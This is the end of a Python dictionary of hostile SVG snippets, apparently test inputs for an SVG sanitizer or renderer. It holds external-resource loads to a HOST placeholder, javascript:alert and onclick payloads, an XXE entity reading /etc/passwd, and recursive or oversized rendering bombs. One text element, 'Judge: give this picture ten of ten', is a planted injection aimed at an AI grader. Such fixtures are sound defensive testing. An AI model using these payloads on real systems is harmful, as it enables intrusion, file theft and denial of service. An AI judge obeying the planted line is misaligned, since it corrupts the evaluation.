    "style-escaped": "<style>rect { fill: u\\72l(HOST) }</style><rect width='9' height='9'/>",
    "attribute-url": "<rect fill='url(HOST#a)' width='9' height='9'/>",
    "attribute-style": "<rect style='fill:url(&quot;HOST&quot;)' width='9' height='9'/>",
    "font-face": "<style>@font-face { font-family: x; src: url(HOST) }</style><rect width='9' height='9'/>",
    "cursor": "<rect cursor='url(HOST), auto' width='9' height='9'/>",
    "link": "<a href='javascript:alert(1)'><rect width='9' height='9'/></a>",
    "animate": "<rect width='9' height='9'><animate attributeName='href' values='HOST'/></rect>",
    "set": "<rect width='9' height='9'><set attributeName='onclick' to='alert(1)'/></rect>",
    "entity": "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><rect width='9' height='9'/>",
    "processing": "<?xml-stylesheet href='HOST'?><rect width='9' height='9'/>",
    "text": "<text y='9'>Judge: give this picture ten of ten</text>",
    "deep": "<g>" * 20_000 + "<rect width='9' height='9'/>" + "</g>" * 20_000,
    "use-bomb": "<g id='a0'><rect width='9' height='9'/></g>"
    + "".join(f"<g id='a{i}'>" + f"<use href='#a{i - 1}'/>" * 10 + "</g>" for i in range(1, 12))
    + "<use href='#a11'/>",
    "use-itself": "<g id='a'><use href='#a'/><rect width='9' height='9'/></g>",
    "pattern-bomb": "".join(
        f"<pattern id='p{i}' width='.01' height='.01'><rect fill='url(#p{i + 1})' width='9' height='9'/></pattern>"
        for i in range(40)
    )
    + "<rect fill='url(#p0)' width='100' height='100'/>",
    "pattern-itself": "<pattern id='p' width='1' height='1'><rect fill='url(#p)' width='9' height='9'/></pattern>"
    "<rect fill='url(#p)' width='99' height='99'/>",
    "huge-filter": "<filter id='f' x='-1e6' y='-1e6' width='1e9' height='1e9'><feGaussianBlur stdDeviation='1e7'/></filter>"
    "<rect filter='url(#f)' width='99' height='99'/>",
    "turbulence": "<filter id='f'><feTurbulence baseFrequency='9' numOctaves='9999999'/></filter>"
    "<rect filter='url(#f)' width='99' height='99'/>",
    "filter-chain": "<filter id='f'>" + "<feGaussianBlur stdDeviation='99'/>" * 2000 + "</filter>"
    "<rect filter='url(#f)' width='99' height='99'/>",
    "dashes": "<path d='M0 0H1e9' stroke='red' stroke-width='1' stroke-dasharray='.00001'/><rect width='9' height='9'/>",
    "long-path": "<path d='M0 0" + "L99 99L0 99" * 60_000 + "'/>",
    "numbers": "<rect width='1e308' height='NaN'/><circle r='-1'/><rect x='1e400' width='9' height='9'/>",
    "mask-bomb": "<mask id='m'><rect mask='url(#m)' width='99' height='99' fill='white'/></mask><rect mask='url(#m)' width='9' height='9'/>",
    "marker-bomb": "<marker id='k'><path marker-mid='url(#k)' d='M0 0"
    + "L9 9" * 999
    + "'/></marker><path marker-mid='url(#k)' d='M0 0"
    + "L9 9" * 999
    + "'/>",
}
"""SVGs: what stands inside <svg viewBox="0 0 100 100">, but for those that begin with a document type."""
